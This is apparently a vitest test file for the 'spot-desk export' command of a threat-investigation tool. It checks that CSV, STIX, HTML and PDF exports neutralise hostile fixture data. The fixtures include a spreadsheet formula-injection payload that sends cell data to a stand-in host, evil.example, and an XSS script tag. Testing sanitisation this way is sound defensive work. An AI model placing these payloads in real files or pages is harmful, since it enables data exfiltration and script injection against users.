// `spot-desk export` as a user runs it: a real process over a data folder holding a saved proxy threat whose URI has
// an internationalised host and whose user agent is a spreadsheet formula. Hostile text stays text in every format.
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { proxyRow, tempRoot, writeRawDay } from './core/investigation/test-tree';
import { stixBundleProblems } from './core/report/stix-schema';
import { saveSearchedThreat, withCore } from './core/test-core';

const CLI = path.join(import.meta.dirname, 'cli.ts');
const D = '2026-11-24';
const URI = 'пример.испытание/загрузка/счёт.exe';
const AGENT = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const TITLE = `Drive-by <script>alert(1)</script> 下载`;
let dir: string;

function cli(args: string[]) {
  const result = spawnSync(process.execPath, ['--import', 'tsx', CLI, '--data', dir, ...args], {
    encoding: 'utf8',
    timeout: 120_000,
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

beforeAll(async () => {
  dir = tempRoot();
  const row = { ...proxyRow(D, '10:00:00', '10.0.0.5', URI, 'mail.example/inbox'), useragent: AGENT };
  writeRawDay(path.join(dir, 'sample'), 'proxy', D, [row, { ...row, p_time: '10:05:00' }]);
  await withCore(dir, (core) =>
    saveSearchedThreat(core, {
      pipeline: 'proxy',
      date: D,
      anchor: URI,
      title: TITLE,
      text: 'Пользователь открыл вложение. 用户打开了附件。',
    }),
  );
}, 120_000);
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('spot-desk export', () => {
  it('csv: the indicators, formula-injection safe', () => {
    const out = path.join(dir, 'iocs.csv');
    const r = cli(['export', '--type', 'proxy', '--date', D, '--format', 'csv', '--out', out]);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toBe(`${out}\ttext/csv\t${fs.statSync(out).size} bytes\n`);
    const csv = fs.readFileSync(out, 'utf8');
    expect(csv).toContain(`user-agent,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`domain-name,пример.испытание,`);
    expect(csv).toContain(`file-name,счёт.exe,`);
    expect(csv).toContain(`url,${URI},`);
  });

  it('stix: a valid STIX 2.1 bundle for one threat, with the TLP and analyst asked for', () => {
    const out = path.join(dir, 'iocs.json');
    const r = cli([
      'export',
      '--type',
      'proxy',
      '--date',
      D,
      '--format',
      'stix',
      '--threat',
      URI,
      '--tlp',
      'red',
      '--analyst',
      'Ольга',
      '--out',
      out,
    ]);
    expect(r.status, r.stderr).toBe(0);
    const bundle = JSON.parse(fs.readFileSync(out, 'utf8')) as { objects: Array<Record<string, unknown>> };
    expect(stixBundleProblems(bundle)).toEqual([]);
    expect(bundle.objects.find((o) => o.type === 'marking-definition')).toMatchObject({ name: 'TLP:RED' });
    expect(bundle.objects.find((o) => o.type === 'identity')).toMatchObject({ name: 'Ольга' });
    expect(bundle.objects.map((o) => o.pattern).filter(Boolean)).toContain(
      `[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = '${AGENT}']`,
    );
  });

  it('html and pdf: the report, hostile title as text, non-Latin text intact', () => {
    const html = path.join(dir, 'report.html');
    expect(cli(['export', '--type', 'proxy', '--date', D, '--format', 'html', '--out', html]).status).toBe(0);
    const page = fs.readFileSync(html, 'utf8');
    expect(page).toContain('Drive-by &lt;script&gt;alert(1)&lt;/script&gt; 下载');
    expect(page).not.toContain('<script>');
    const pdf = path.join(dir, 'report.pdf');
    const r = cli(['export', '--type', 'proxy', '--date', D, '--format', 'pdf', '--analyst', 'Ольга', '--out', pdf]);
    expect(r.status, r.stderr).toBe(0);
    const text = execFileSync('pdftotext', ['-raw', pdf, '-'], { encoding: 'utf8' }).replace(/\s+/g, ' ');
    for (const piece of [
      TITLE,
      'Пользователь открыл вложение.',
      '用户打开了附件。',
      'пример.испытание',
      'Ольга',
      'TLP:AMBER',
    ]) {
      expect(text, piece).toContain(piece);
    }
  });

  it('refuses what it cannot do in one line: no --out, an unknown format, a threat not saved', () => {
    const noOut = cli(['export', '--type', 'proxy', '--date', D, '--format', 'pdf']);
    expect(noOut.status).toBe(2);
    expect(noOut.stderr).toBe('export needs --out FILE (where to write the report or the indicators)\n');
    const docx = cli(['export', '--type', 'proxy', '--date', D, '--format', 'docx', '--out', path.join(dir, 'x')]);
    expect(docx.status).toBe(1);
    expect(docx.stderr).toMatch(/^error: .*format.*\n$/);
    const missing = cli([
      'export',
      '--type',
      'proxy',
      '--date',
      D,
      '--format',
      'html',
      '--threat',
      'nope.example/',
      '--out',
      path.join(dir, 'x'),
    ]);
    expect(missing.status).toBe(1);
    expect(missing.stderr).toBe(`error: no saved proxy threat nope.example/ on ${D}\n`);
    expect(fs.existsSync(path.join(dir, 'x'))).toBe(false);
  });
});
